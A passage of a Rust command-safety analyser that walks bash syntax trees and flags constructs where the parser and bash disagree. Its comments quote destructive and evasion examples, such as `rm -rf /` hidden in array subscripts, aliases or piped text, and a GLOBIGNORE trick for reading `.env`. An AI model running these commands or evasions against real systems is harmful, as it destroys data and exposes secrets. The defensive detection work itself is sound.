//! Walks brush-parser's syntax tree and collects every simple command.

use brush_parser::ast;

use super::fast;
use super::word::{self, WordParts, shorten};
use super::wrappers::{self, Unwrap};
use super::{
    Limits, Problem, ProblemKind, Redirect, RedirectAccess, ShellAnalysis, SimpleCommand, Stdin,
    Word,
};

/// What surrounds the script being walked.
#[derive(Debug, Clone, Default)]
pub(crate) struct Context {
    wrappers: Vec<String>,
    elevated: bool,
    remote: Option<String>,
    /// Directories wrappers start commands in (`env -C DIR sh -c …`).
    directories: Vec<Word>,
    redirects: Vec<Redirect>,
    stdin: Option<Stdin>,
    function: Option<String>,
    /// Names that hold integers this line set (the counter of `for ((i=0; …))`), which
    /// arithmetic may read without evaluating text from outside the line.
    numeric: Vec<String>,
}

impl Context {
    fn inside(&self, wrapper: impl Into<String>) -> Self {
        let mut ctx = self.clone();
        ctx.wrappers.push(wrapper.into());
        ctx
    }
}

/// Position of a command in its pipeline.
#[derive(Debug, Clone, Copy)]
struct PipePosition {
    id: usize,
    stdin_piped: bool,
    stdout_piped: bool,
}

/// brush-parser's here-document parser backtracks through brackets that may not close, and
/// its time grows about fourfold per level: a body of `${d[ x ` four times (eight levels, the
/// most one body may have) took 0.4–0.5 s in a release build, six levels 30 ms, and with a
/// line limited only by its substitution count, 50 such bodies took 20 s (found by fuzzing,
/// timeout-cf3509e6). Each body costs `4^levels`, and a line may spend `4^7` in total: at most
/// about 0.15 s, one body at the most levels is refused, and ordinary bodies (nothing open
/// across an expansion) cost 1.
const HEREDOC_BUDGET: u64 = 4u64.pow(7);

/// The cost of parsing here-document body `body` against [`HEREDOC_BUDGET`]: none for a body
/// nesting deeper than [`word::MAX_WORD_PAREN_DEPTH`], which is refused without parsing.
fn heredoc_cost(body: &str) -> u64 {
    let levels = word::word_nesting(body, word::Outside::Literal);
    if levels > word::MAX_WORD_PAREN_DEPTH {
        return 0;
    }
    4u64.saturating_pow(u32::try_from(levels).unwrap_or(u32::MAX))
}

/// Compound-command keywords and operators, counted to bound the parser's recursion.
const COMPOUND_OPENERS: &[&str] = &[
    "(", "((", "{", "if", "while", "until", "for", "case", "select", "function", "[[",
];

pub(crate) struct Walker {
    limits: Limits,
    commands: Vec<SimpleCommand>,
    problems: Vec<Problem>,
    pipelines: usize,
    /// Here-documents met in the syntax tree of the script being walked (not counting those
    /// of scripts nested in it, which count their own).
    heredocs: usize,
    /// Names the line gave the integer attribute (`declare -i x`): bash evaluates every
    /// value assigned to them as arithmetic.
    integers: Vec<String>,
    /// Names the line defined as aliases (`alias echo='true;'`): where bash expands aliases,
    /// a later command using one runs its value in front of the words after it.
    aliases: Vec<String>,
    /// What is left of the line's budget for parsing here-document bodies (see
    /// [`HEREDOC_BUDGET`]).
    heredoc_budget: u64,
    /// Whether lines in the fast subset skip brush-parser (see `fast.rs`); off only in tests
    /// that compare both paths.
    pub(crate) fast_path: bool,
    /// What the last command recorded prints into a pipe when it is only known text
    /// (`echo 'rm -rf /' | bash`): its pipeline, the number of commands recorded then, and
    /// the text. A shell reading standard input right after it in the same pipeline runs
    /// the text as a script.
    piped_text: Option<(usize, usize, String)>,
}

impl Walker {
    pub(crate) fn new(limits: Limits) -> Self {
        Self {
            limits,
            commands: Vec::new(),
            problems: Vec::new(),
            pipelines: 0,
            heredocs: 0,
            integers: Vec::new(),
            aliases: Vec::new(),
            heredoc_budget: HEREDOC_BUDGET,
            fast_path: true,
            piped_text: None,
        }
    }

    pub(crate) fn finish(self) -> ShellAnalysis {
        ShellAnalysis {
            commands: self.commands,
            problems: self.problems,
        }
    }

    fn problem(&mut self, kind: ProblemKind, message: String) {
        if self.problems.len() < 64 && !self.problems.iter().any(|p| p.message == message) {
            self.problems.push(Problem { kind, message });
        }
    }

    /// Analyses `src` as a bash script at nesting `depth`.
    pub(crate) fn script(&mut self, src: &str, depth: usize, ctx: &Context) {
        // `${NAME=…}` and `${NAME:=…}` assign NAME wherever they are expanded: in an
        // assignment's value, a `case` or `for` word, `[[ … ]]`, a here-string
        // (`x=${GLOBIGNORE:=x}; cat *` reads `.env`; found by probing, session 9). A name that
        // changes what the shell or programs do makes the line ask; the text is scanned as
        // written, quotes included, which only over-approximates.
        if src.contains("${")
            && let Some(name) = assigned_by_expansion(src).find(|name| {
                super::super::risk_table::dangerous_variable(name).is_some()
                    || super::super::risk_table::configuring_variable(name).is_some()
            })
        {
            self.problem(
                ProblemKind::Opaque,
                format!(
                    "`${{{name}=…}}` assigns `{name}`, a variable that changes what the shell or programs do"
                ),
            );
        }
        if depth > self.limits.max_depth {
            self.problem(
                ProblemKind::TooDeep,
                format!(
                    "scripts nest more than {} levels deep at `{}`",
                    self.limits.max_depth,
                    shorten(src)
                ),
            );
            return;
        }
        if src.len() > self.limits.max_input_bytes {
            self.problem(
                ProblemKind::TooLarge,
                format!(
                    "command line of {} bytes is over the limit of {} bytes",
                    src.len(),
                    self.limits.max_input_bytes
                ),
            );
            return;
        }
        // `$(`, `${`, `$[`, `<(`, `>(` and backquotes, in one pass over the line.
        let bytes = src.as_bytes();
        let expansions = bytes.iter().filter(|&&b| b == b'`').count()
            + bytes
                .windows(2)
                .filter(|pair| matches!(pair, [b'$', b'(' | b'{' | b'['] | [b'<' | b'>', b'(']))
                .count();
        if expansions > self.limits.max_expansions {
            self.problem(
                ProblemKind::TooDeep,
                format!(
                    "{expansions} substitutions and expansions are over the limit of {}",
                    self.limits.max_expansions
                ),
            );
            return;
        }
        if let Some(word) = varname_redirection(src) {
            self.problem(
                ProblemKind::Parse,
                format!(
                    "cannot parse `{}`: `{word}` stores a file descriptor in a variable, which bash reads as a redirection and brush-parser as an argument",
                    shorten(src)
                ),
            );
            return;
        }
        if self.fast_path
            && let Some(pipelines) = fast::parse(src)
        {
            for pipeline in &pipelines {
                self.fast_pipeline(pipeline, depth, ctx);
            }
            return;
        }
        if empty_heredoc_delimiter(src) {
            self.problem(
                ProblemKind::Parse,
                format!(
                    "cannot parse `{}`: a here-document with an empty delimiter",
                    shorten(src)
                ),
            );
            return;
        }
        let BashReading { heredocs, comments } = match tokenizer_hazard(src) {
            Ok(reading) => reading,
            Err(hazard) => {
                self.tokenizer_problem(src, hazard);
                return;
            }
        };
        if heredoc_with_pending_substitution(src) {
            self.problem(
                ProblemKind::Parse,
                format!(
                    "cannot parse `{}`: a substitution, a `${{` or a carriage return on the line of a here-document operator",
                    shorten(src)
                ),
            );
            return;
        }
        // brush-parser 0.4's tokenizer has looped, allocating until memory ran out, at the
        // end of input with a here-document pending (both loops fuzzing found, refused
        // above, end that way). A final newline ends a script the same way for bash, and
        // takes that path away from shapes not yet found.
        let terminated;
        let tokenized = if src.ends_with('\n') {
            src
        } else {
            terminated = format!("{src}\n");
            terminated.as_str()
        };
        let options = super::parser_options();
        let tokens = match word::catch(|| {
            brush_parser::uncached_tokenize_str(tokenized, &options.tokenizer_options())
        }) {
            Some(Ok(tokens)) => tokens,
            Some(Err(err)) => {
                self.problem(
                    ProblemKind::Parse,
                    format!("cannot parse `{}`: {err}", shorten(src)),
                );
                return;
            }
            None => {
                self.problem(
                    ProblemKind::Parse,
                    format!("cannot parse `{}`", shorten(src)),
                );
                return;
            }
        };
        let openers = tokens
            .iter()
            .filter(|t| COMPOUND_OPENERS.contains(&t.to_str()))
            .count();
        if openers > self.limits.max_compound {
            self.problem(
                ProblemKind::TooDeep,
                format!(
                    "{openers} compound commands are over the limit of {}",
                    self.limits.max_compound
                ),
            );
            return;
        }
        let nesting = paren_nesting(&tokens);
        if nesting > self.limits.max_paren_nesting {
            self.problem(
                ProblemKind::TooDeep,
                format!(
                    "`(` nested {nesting} deep (counting unclosed ones) is over the limit of {}",
                    self.limits.max_paren_nesting
                ),
            );
            return;
        }
        if let Some((word, nesting)) = deepest_word(&tokens) {
            self.problem(
                ProblemKind::TooDeep,
                format!(
                    "word `{}` has brackets nested {nesting} deep (counting ones that may not close) over the limit of {}",
                    shorten(word),
                    word::MAX_WORD_PAREN_DEPTH
                ),
            );
            return;
        }
        // A cross-check of brush-parser's reading against bash's: every command that hid
        // behind a misread so far (fuzzing and the grammar tests found them) came with a
        // `<<` one of them read as a here-document and the other as a shift, or a body one of
        // them ended elsewhere. The scan above reads here-documents as bash does, so a
        // different count means brush-parser read other lines than bash will run.
        let tokenized_heredocs = tokenized_heredocs(&tokens);
        if tokenized_heredocs != heredocs {
            self.heredoc_mismatch(src, tokenized_heredocs, heredocs);
            return;
        }
        // The same for comments: brush-parser took `#]=1 rm -rf /` in `a[1 #]=1 rm -rf /`
        // for a comment, where bash reads a subscript and runs the `rm`.
        if tokenized_comments(src, &tokens) != comments {
            self.problem(
                ProblemKind::Parse,
                format!(
                    "cannot parse `{}`: brush-parser reads comments at other places than bash",
                    shorten(src)
                ),
            );
            return;
        }
        if spaced_double_paren(&tokens) {
            self.problem(
                ProblemKind::Parse,
                format!(
                    "cannot parse `{}`: `( (` or `) )` with a blank between, which bash reads as nested subshells and brush-parser as arithmetic",
                    shorten(src)
                ),
            );
            return;
        }
        if let Some(fd) = oversized_io_number(&tokens) {
            self.problem(
                ProblemKind::Parse,
                format!(
                    "cannot parse `{}`: the redirection's file descriptor `{}` is out of range",
                    shorten(src),
                    shorten(fd)
                ),
            );
            return;
        }
        let program = match word::catch(|| brush_parser::parse_tokens(&tokens, &options)) {
            Some(Ok(program)) => program,
            Some(Err(err)) => {
                self.problem(
                    ProblemKind::Parse,
                    format!("cannot parse `{}`: {err}", shorten(src)),
                );
                return;
            }
            None => {
                self.problem(
                    ProblemKind::Parse,
                    format!("cannot parse `{}`", shorten(src)),
                );
                return;
            }
        };
        let outer = std::mem::take(&mut self.heredocs);
        for list in &program.complete_commands {
            self.compound_list(list, depth, ctx);
        }
        // The same count in the syntax tree: a here-document the tokenizer saw and the
        // parser made part of something else (arithmetic text) was not analysed as one.
        let found = std::mem::replace(&mut self.heredocs, outer);
        if found != heredocs {
            self.heredoc_mismatch(src, found, heredocs);
        }
    }

    fn heredoc_mismatch(&mut self, src: &str, found: usize, bash: usize) {
        self.problem(
            ProblemKind::Parse,
            format!(
                "cannot parse `{}`: brush-parser read {found} here-documents where bash reads {bash}",
                shorten(src)
            ),
        );
    }

    /// Reports what [`tokenizer_hazard`] found in `src`.
    fn tokenizer_problem(&mut self, src: &str, hazard: TokenizerHazard) {
        let what = match hazard {
            TokenizerHazard::UnclosedExpansion => {
                "a here-document inside an unterminated substitution"
            }
            TokenizerHazard::UnusualDelimiter => {
                "a here-document delimiter that is not a plain word (letters, digits, `_.,:=%^/~-`, quoted or not)"
            }
            TokenizerHazard::InParameterExpansion => "a here-document inside `${…}`",
            TokenizerHazard::Subscript => {
                "a blank, `#`, operator or `<<` inside the subscript of `name[…]` (bash reads the subscript as part of one word, brush-parser splits it)"
            }
            TokenizerHazard::Arithmetic => {
                "a `<<` inside arithmetic after nested brackets, or a here-document inside arithmetic (brush-parser reads them differently from bash)"
            }
            TokenizerHazard::PendingSubstitution => {
                "a substitution, a `${` or a process substitution on the line of a here-document operator, or more after the delimiter of a here-document inside a substitution"
            }
            TokenizerHazard::ArithmeticLeft => {
                "a here-document after `((` inside `$(…)`, or `<((`/`>((` (brush-parser reads arithmetic there where bash doesn't)"
            }
        };
        self.problem(
            ProblemKind::Parse,
            format!("cannot parse `{}`: {what}", shorten(src)),
        );
    }

    fn compound_list(&mut self, list: &ast::CompoundList, depth: usize, ctx: &Context) {
        for item in &list.0 {
            let and_or = &item.0;
            self.pipeline(&and_or.first, depth, ctx);
            for next in &and_or.additional {
                match next {
                    ast::AndOr::And(p) | ast::AndOr::Or(p) => self.pipeline(p, depth, ctx),
                }
            }
        }
    }

    fn pipeline(&mut self, pipeline: &ast::Pipeline, depth: usize, ctx: &Context) {
        let id = self.pipelines;
        self.pipelines = self.pipelines.saturating_add(1);
        let last = pipeline.seq.len().saturating_sub(1);
        for (i, command) in pipeline.seq.iter().enumerate() {
            let pos = PipePosition {
                id,
                stdin_piped: i > 0,
                stdout_piped: i < last,
            };
            self.command(command, pos, depth, ctx);
        }
    }

    fn command(&mut self, command: &ast::Command, pos: PipePosition, depth: usize, ctx: &Context) {
        match command {
            ast::Command::Simple(simple) => self.simple(simple, pos, depth, ctx),
            ast::Command::Compound(compound, redirects) => {
                let ctx = self.with_redirects(redirects.as_ref(), pos, depth, ctx);
                self.compound(compound, pos, depth, &ctx);
            }
            ast::Command::Function(def) => {
                // A function body runs whenever the function is called; analyse it as if it ran.
                let mut ctx = self.with_redirects(def.body.1.as_ref(), pos, depth, ctx);
                ctx.function = Some(def.fname.value.clone());
                self.compound(&def.body.0, pos, depth, &ctx);
            }
            ast::Command::ExtendedTest(test, redirects) => {
                let ctx = self.with_redirects(redirects.as_ref(), pos, depth, ctx);
                self.extended_test(&test.expr, depth, &ctx);
            }
        }
    }

    fn extended_test(&mut self, expr: &ast::ExtendedTestExpr, depth: usize, ctx: &Context) {
        match expr {
            ast::ExtendedTestExpr::And(a, b) | ast::ExtendedTestExpr::Or(a, b) => {
                self.extended_test(a, depth, ctx);
                self.extended_test(b, depth, ctx);
            }
            ast::ExtendedTestExpr::Not(a) | ast::ExtendedTestExpr::Parenthesized(a) => {
                self.extended_test(a, depth, ctx);
            }
            ast::ExtendedTestExpr::UnaryTest(op, w) => {
                let word = self.word(&w.value, depth, ctx);
                // `-v` and `-R` expand the subscript of the name they are given, as
                // arithmetic when the array is indexed: `a[x]` reads `x`'s value as an
                // expression in turn.
                if (word.opaque || subscript_reads_variable(&word.text))
                    && matches!(
                        op,
                        ast::UnaryPredicate::ShellVariableIsSetAndAssigned
                            | ast::UnaryPredicate::ShellVariableIsSetAndNameRef
                    )
                {
                    self.problem(
                        ProblemKind::Opaque,
                        format!(
                            "`[[ -v {} ]]` tests a name only known at run time, whose subscript bash expands",
                            shorten(&word.text)
                        ),
                    );
                }
            }
            ast::ExtendedTestExpr::BinaryTest(op, a, b) => {
                self.word(&a.value, depth, ctx);
                self.word(&b.value, depth, ctx);
                // `-eq` and the like evaluate both sides as arithmetic.
                if matches!(
                    op,
                    ast::BinaryPredicate::ArithmeticEqualTo
                        | ast::BinaryPredicate::ArithmeticNotEqualTo
                        | ast::BinaryPredicate::ArithmeticLessThan
                        | ast::BinaryPredicate::ArithmeticLessThanOrEqualTo
                        | ast::BinaryPredicate::ArithmeticGreaterThan
                        | ast::BinaryPredicate::ArithmeticGreaterThanOrEqualTo
                ) {
                    self.arithmetic_variables(&a.value, ctx);
                    self.arithmetic_variables(&b.value, ctx);
                }
            }
        }
    }

    fn compound(
        &mut self,
        compound: &ast::CompoundCommand,
        pos: PipePosition,
        depth: usize,
        ctx: &Context,
    ) {
        let ctx = &self.piped_context(pos, ctx);
        match compound {
            ast::CompoundCommand::Arithmetic(arith) => {
                self.arithmetic(&arith.expr.value, depth, ctx)
            }
            ast::CompoundCommand::ArithmeticForClause(clause) => {
                // Counters the initializer sets to an integer, and the body doesn't set.
                let mut inner = ctx.clone();
                if let Some(init) = &clause.initializer {
                    let body = clause.body.to_string();
                    inner.numeric.extend(
                        integer_assignments(&init.value)
                            .into_iter()
                            .filter(|name| !may_assign(&body, name)),
                    );
                }
                for expr in [&clause.initializer, &clause.condition, &clause.updater]
                    .into_iter()
                    .flatten()
                {
                    self.arithmetic(&expr.value, depth, &inner);
                }
                self.compound_list(&clause.body.list, depth, &inner);
            }
            ast::CompoundCommand::BraceGroup(group) => self.compound_list(&group.list, depth, ctx),
            ast::CompoundCommand::Subshell(sub) => self.compound_list(&sub.list, depth, ctx),
            ast::CompoundCommand::ForClause(clause) => {
                let mut values = Vec::new();
                for value in clause.values.iter().flatten() {
                    values.push(self.word(&value.value, depth, ctx));
                }
                // The loop assigns its variable like `NAME=value` does: `for PS4 in
                // '$(cmd)'; do set -x; …` runs cmd. Recorded as an assignment-only command,
                // so the risk model rates the name.
                // Configuring names too (`for RIPGREP_CONFIG_PATH in rc; do rg x; done`; found
                // by probing, session 9).
                if super::super::risk_table::dangerous_variable(&clause.variable_name).is_some()
                    || super::super::risk_table::configuring_variable(&clause.variable_name)
                        .is_some()
                {
                    let value = match values.as_slice() {
                        [one] => one.clone(),
                        _ => Word::opaque(shorten(
                            &values
                                .iter()
                                .map(|w| w.text.as_str())
                                .collect::<Vec<_>>()
                                .join(" "),
                        )),
                    };
                    let state = CommandState::new(ctx, vec![(clause.variable_name.clone(), value)]);
                    self.emit(Vec::new(), state, pos, depth, ctx, 0);
                }
                self.compound_list(&clause.body.list, depth, ctx);
            }
            ast::CompoundCommand::CaseClause(clause) => {
                self.word(&clause.value.value, depth, ctx);
                for item in &clause.cases {
                    for pattern in &item.patterns {
                        self.word(&pattern.value, depth, ctx);
                    }
                    if let Some(list) = &item.cmd {
                        self.compound_list(list, depth, ctx);
                    }
                }
            }
            ast::CompoundCommand::IfClause(clause) => {
                self.compound_list(&clause.condition, depth, ctx);
                self.compound_list(&clause.then, depth, ctx);
                for branch in clause.elses.iter().flatten() {
                    if let Some(condition) = &branch.condition {
                        self.compound_list(condition, depth, ctx);
                    }
                    self.compound_list(&branch.body, depth, ctx);
                }
            }
            ast::CompoundCommand::WhileClause(clause)
            | ast::CompoundCommand::UntilClause(clause) => {
                self.compound_list(&clause.0, depth, ctx);
                self.compound_list(&clause.1.list, depth, ctx);
            }
            ast::CompoundCommand::Coprocess(coproc) => {
                // `coproc NAME …` assigns the array NAME (its file descriptors): `coproc PATH
                // { :; }; ls` sets PATH to a number (found by probing, session 9).
                if let Some(name) = &coproc.name {
                    let name = name.value.as_str();
                    if super::super::risk_table::dangerous_variable(name).is_some()
                        || super::super::risk_table::configuring_variable(name).is_some()
                        || !name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
                    {
                        self.problem(
                            ProblemKind::Opaque,
                            format!(
                                "`coproc {}` assigns the variable `{}`, which changes what the shell or programs do",
                                shorten(name),
                                shorten(name)
                            ),
                        );
                    }
                }
                let inner = PipePosition {
                    id: pos.id,
                    stdin_piped: false,
                    stdout_piped: false,
                };
                self.command(&coproc.body, inner, depth, &ctx.inside("coproc"));
            }
        }
    }

    /// A compound command in a pipeline passes its pipe to the commands inside.
    fn piped_context(&self, pos: PipePosition, ctx: &Context) -> Context {
        let mut ctx = ctx.clone();
        if pos.stdin_piped && ctx.stdin.is_none() {
            ctx.stdin = Some(Stdin::Pipe);
        }
        ctx
    }

    /// Arithmetic text runs any `$(…)` it contains; scan it like a here-document.
    fn arithmetic(&mut self, text: &str, depth: usize, ctx: &Context) {
        self.arithmetic_variables(text, ctx);
        let mut parts = WordParts::default();
        let _ = word::resolve_heredoc(text, &mut parts);
        self.parts(parts, depth, ctx);
    }

    /// `declare -i x=VALUE` (and `typeset`, `local`, `export`, `readonly`) evaluates VALUE
    /// as arithmetic, and so does every later assignment to `x`.
    fn integer_declarations(&mut self, argv: &[Word], ctx: &Context) {
        let Some(name) = argv.first().and_then(Word::as_literal) else {
            return;
        };
        if !matches!(
            super::basename(name),
            "declare" | "typeset" | "local" | "export" | "readonly"
        ) {
            return;
        }
        let args = argv.get(1..).unwrap_or_default();
        let integer = args.iter().any(|w| {
            w.text
                .strip_prefix('-')
                .is_some_and(|flags| !flags.starts_with('-') && flags.contains('i'))
        });
        if !integer {
            return;
        }
        // Every later assignment to an integer variable is arithmetic, whichever way it
        // comes: `read y < f`, `printf -v y`, `for y in`, `mapfile`, `y=(…)`, a name
        // reference to it. A value naming a variable that holds `b[$(cmd)]` runs cmd, and
        // `read` takes the value from a file (found by probing, session 8).
        self.problem(
            ProblemKind::Opaque,
            format!(
                "`{}` gives a variable the integer attribute: bash evaluates each later value assigned to it as arithmetic, where an array subscript can run commands",
                shorten(&argv.iter().map(|w| w.text.as_str()).collect::<Vec<_>>().join(" "))
            ),
        );
        for arg in args.iter().filter(|w| !w.text.starts_with('-')) {
            let (var, value) = arg.text.split_once('=').unwrap_or((arg.text.as_str(), ""));
            if arg.opaque {
                self.arithmetic_variables(&arg.text, ctx);
            } else if !value.is_empty() {
                self.arithmetic_variables(value, ctx);
            }
            self.integers.push(var.to_owned());
        }
    }

    /// A command that uses a name the line defined as an alias, as its name or (after an
    /// alias whose value ends in a blank) a later word: bash puts the alias's value in front
    /// of the words after it (`alias echo='true;'` makes `echo rm -rf /` run `rm`, `alias
    /// echo=sudo` makes it `sudo rm -rf /`), which the analysis does not do (found by
    /// probing, session 8).
    fn alias_uses(&mut self, argv: &[Word]) {
        if self.aliases.is_empty() {
            return;
        }
        if let Some(used) = argv.iter().find(|w| self.aliases.contains(&w.text)) {
            let message = format!(
                "`{}` uses the alias `{}` the line defined: bash runs the alias's value with the words after it, which this analysis does not expand",
                shorten(
                    &argv
                        .iter()
                        .map(|w| w.text.as_str())
                        .collect::<Vec<_>>()
                        .join(" ")
                ),
                shorten(&used.text)
            );
            self.problem(ProblemKind::Opaque, message);
        }
    }

    /// Builtins that take a variable name (`test -v NAME`, `printf -v NAME`, `read NAME`,
    /// `declare NAME=…`, `unset NAME`, …) expand the subscript of `NAME[SUB]` as arithmetic
    /// when the array is indexed, and arithmetic reads a variable's value as an expression in
    /// turn: with `x` holding `b[$(cmd)]` (built on the line with `x+=…` or `printf -v`, or
    /// read from a file), `test -v a[x]` runs cmd. And a quoted value of `declare a='(…)'` is
    /// a compound assignment expanded again when `a` is an array: `declare -a a='($(cmd))'`
    /// runs cmd. Both are opaque (found by probing, session 7).
    fn variable_name_arguments(&mut self, argv: &[Word]) {
        let Some(name) = argv.first().and_then(Word::as_literal) else {
            return;
        };
        let declares = matches!(
            super::basename(name),
            "declare" | "typeset" | "local" | "export" | "readonly"
        );
        if !declares
            && !matches!(
                super::basename(name),
                "test"
                    | "["
                    | "printf"
                    | "read"
                    | "mapfile"
                    | "readarray"
                    | "unset"
                    | "wait"
                    | "getopts"
            )
        {
            return;
        }
        for arg in argv.iter().skip(1) {
            let text = arg.text.as_str();
            let compound = declares
                && text
                    .split_once('=')
                    .is_some_and(|(_, value)| value.starts_with('('))
                && text.contains(['$', '`', '[']);
            if compound || subscript_reads_variable(text) {
                self.problem(
                    ProblemKind::Opaque,
                    format!(
                        "`{name}` reads `{}` as a variable or an array, whose subscripts or values bash evaluates again (a variable holding `b[$(cmd)]` runs cmd)",
                        shorten(text)
                    ),
                );
                return;
            }
        }
    }

    /// bash evaluates the value of a variable read in arithmetic as an expression in turn,
    /// and expands array subscripts in it: with `x` holding `a[$(rm -rf /)]` from outside
    /// the line (the environment, `read x < file`), `(( x > 0 ))` runs the `rm`. So
    /// arithmetic reading a variable is opaque, unless the line set the variable to an
    /// integer (`for ((i=0; i<3; i++))`).
    fn arithmetic_variables(&mut self, text: &str, ctx: &Context) {
        // Arithmetic assigns too: `(( PATH=0 ))`, `$((BASH_ENV=x))` (found by probing,
        // session 9). A name whose value changes what programs do makes the line ask.
        if let Some(name) = arithmetic_assignments(text).into_iter().find(|name| {
            super::super::risk_table::dangerous_variable(name).is_some()
                || super::super::risk_table::configuring_variable(name).is_some()
        }) {
            self.problem(
                ProblemKind::Opaque,
                format!(
                    "arithmetic `{}` assigns `{name}`, a variable that changes what the shell or programs do",
                    shorten(text)
                ),
            );
        }
        if let Some(name) = arithmetic_variable(text, &ctx.numeric) {
            self.problem(
                ProblemKind::Opaque,
                format!(
                    "arithmetic `{}` reads `{}`, whose value bash evaluates as an expression (a value like `a[$(cmd)]` runs cmd)",
                    shorten(text),
                    shorten(&name)
                ),
            );
        }
    }

    /// Resolves a word that is not an argument (a `for` list, a `case` pattern, a test
    /// operand), analysing the substitutions inside it.
    fn word(&mut self, raw: &str, depth: usize, ctx: &Context) -> Word {
        let mut parts = WordParts::default();
        let word = word::resolve(raw, &mut parts);
        self.parts(parts, depth, ctx);
        if evaluable_subscript(&word.text) {
            self.problem(
                ProblemKind::Opaque,
                format!(
                    "`{}` holds an array subscript with `$(`, `${{` or a backquote, which bash runs when a builtin reads the word as a variable name or a number (`test -v`, `printf -v`, `read`, `declare`, `let`, `[[ … -eq … ]]`)",
                    shorten(&word.text)
                ),
            );
        }
        word
    }

    fn parts(&mut self, parts: WordParts, depth: usize, ctx: &Context) {
        for message in parts.problems {
            self.problem(ProblemKind::Opaque, message);
        }
        for text in &parts.arithmetic {
            self.arithmetic_variables(text, ctx);
        }
        for script in parts.substitutions {
            self.script(&script, depth + 1, &ctx.inside("$(…)"));
        }
    }

    fn with_redirects(
        &mut self,
        redirects: Option<&ast::RedirectList>,
        pos: PipePosition,
        depth: usize,
        ctx: &Context,
    ) -> Context {
        let mut ctx = ctx.clone();
        for redirect in redirects.iter().flat_map(|list| list.0.iter()) {
            self.redirect(redirect, pos, depth, &mut ctx);
        }
        ctx
    }

    fn redirect(
        &mut self,
        redirect: &ast::IoRedirect,
        pos: PipePosition,
        depth: usize,
        ctx: &mut Context,
    ) {
        let _ = pos;
        match redirect {
            ast::IoRedirect::File(_, kind, target) => {
                let access = match kind {
                    ast::IoFileRedirectKind::Read => Some(RedirectAccess::Read),
                    ast::IoFileRedirectKind::Write
                    | ast::IoFileRedirectKind::Clobber
                    | ast::IoFileRedirectKind::ReadAndWrite => Some(RedirectAccess::Write),
                    ast::IoFileRedirectKind::Append => Some(RedirectAccess::Append),
                    ast::IoFileRedirectKind::DuplicateInput => None,
                    ast::IoFileRedirectKind::DuplicateOutput => Some(RedirectAccess::Write),
                };
                match target {
                    ast::IoFileRedirectTarget::Filename(w) => {
                        self.file_redirect(access, &w.value, depth, ctx);
                    }
                    ast::IoFileRedirectTarget::Fd(_) => {}
                    ast::IoFileRedirectTarget::Duplicate(w) => {
                        let output = matches!(kind, ast::IoFileRedirectKind::DuplicateOutput);
                        self.duplicate_redirect(output, &w.value, depth, ctx);
                    }
                    ast::IoFileRedirectTarget::ProcessSubstitution(kind, sub) => {
                        let reads = matches!(kind, ast::ProcessSubstitutionKind::Read);
                        self.process_substitution(kind, sub, depth, ctx);
                        if reads && matches!(access, Some(RedirectAccess::Read)) {
                            ctx.stdin = Some(Stdin::File(Word::opaque("<(…)")));
                        }
                    }
                }
            }
            ast::IoRedirect::HereDocument(_, doc) => {
                self.heredocs = self.heredocs.saturating_add(1);
                let cost = heredoc_cost(&doc.doc.value);
                let affordable = cost <= self.heredoc_budget;
                self.heredoc_budget = self.heredoc_budget.saturating_sub(cost);
                let body = if doc.requires_expansion && !affordable {
                    self.problem(
                        ProblemKind::TooDeep,
                        "here-documents on this line nest too deeply in total to analyse"
                            .to_owned(),
                    );
                    Word::opaque(doc.doc.value.clone())
                } else if doc.requires_expansion && doc.doc.value.contains("\\\n") {
                    // bash joins a backslash-newline in the body of a here-document with an
                    // unquoted delimiter before it compares the line with the delimiter and
                    // before it expands it: `EO\⏎F` ends the document and the lines after it
                    // are commands, `$\⏎(cmd)` runs `cmd`. brush-parser compares physical
                    // lines (found by probing, session 9).
                    self.problem(
                        ProblemKind::Opaque,
                        "a here-document with an unquoted delimiter continues a line with `\\`, which bash joins before it looks for the delimiter or expands the body".to_owned(),
                    );
                    Word::opaque(doc.doc.value.clone())
                } else if doc.requires_expansion {
                    let mut parts = WordParts::default();
                    let body = word::resolve_heredoc(&doc.doc.value, &mut parts);
                    self.parts(parts, depth, ctx);
                    body
                } else {
                    Word::literal(doc.doc.value.clone())
                };
                ctx.stdin = Some(Stdin::Text(body));
            }
            ast::IoRedirect::HereString(_, w) => {
                let mut word = self.word(&w.value, depth, ctx);
                word.text.push('\n');
                ctx.stdin = Some(Stdin::Text(word));
            }
            ast::IoRedirect::OutputAndError(w, append) => {
                let word = self.word(&w.value, depth, ctx);
                let access = if *append {
                    RedirectAccess::Append
                } else {
                    RedirectAccess::Write
                };
                ctx.redirects.push(Redirect {
                    access,
                    target: word,
                });
            }
        }
    }

    /// `< file`, `> file`, `>> file` (access `None`: a redirection that is no file access).
    fn file_redirect(
        &mut self,
        access: Option<RedirectAccess>,
        raw: &str,
        depth: usize,
        ctx: &mut Context,
    ) {
        let word = self.word(raw, depth, ctx);
        if let Some(access) = access {
            if access == RedirectAccess::Read {
                ctx.stdin = Some(Stdin::File(word.clone()));
            }
            ctx.redirects.push(Redirect {
                access,
                target: word,
            });
        }
    }

    /// `>&word` / `<&word`: `>&2` duplicates a descriptor; `>&file` writes a file.
    fn duplicate_redirect(&mut self, output: bool, raw: &str, depth: usize, ctx: &mut Context) {
        let word = self.word(raw, depth, ctx);
        let is_fd = word
            .as_literal()
            .is_some_and(|t| t == "-" || t.bytes().all(|b| b.is_ascii_digit()));
        if !is_fd && output {
            ctx.redirects.push(Redirect {
                access: RedirectAccess::Write,
                target: word,
            });
        }
    }

    /// A pipeline of the fast subset: the same steps as [`Walker::pipeline`] and
    /// [`Walker::simple`] take for it after brush-parser.
    fn fast_pipeline(&mut self, pipeline: &fast::Pipeline<'_>, depth: usize, ctx: &Context) {
        let id = self.pipelines;
        self.pipelines = self.pipelines.saturating_add(1);
        let last = pipeline.len().saturating_sub(1);
        for (i, items) in pipeline.iter().enumerate() {
            let pos = PipePosition {
                id,
                stdin_piped: i > 0,
                stdout_piped: i < last,
            };
            let mut ctx = self.piped_context(pos, ctx);
            let mut argv = Vec::with_capacity(items.len());
            for item in items {
                match *item {
                    fast::Item::Word(raw) => argv.push(self.word(raw, depth, &ctx)),
                    fast::Item::Redirect(kind, target) => {
                        let access = match kind {
                            fast::Redirection::Read => RedirectAccess::Read,
                            fast::Redirection::Write => RedirectAccess::Write,
                            fast::Redirection::Append => RedirectAccess::Append,
                            fast::Redirection::DuplicateOutput => {
                                self.duplicate_redirect(true, target, depth, &mut ctx);
                                continue;
                            }
                        };
                        self.file_redirect(Some(access), target, depth, &mut ctx);
                    }
                }
            }
            // The same checks as the full parser's path (`simple`).
            self.integer_declarations(&argv, &ctx);
            self.variable_name_arguments(&argv);
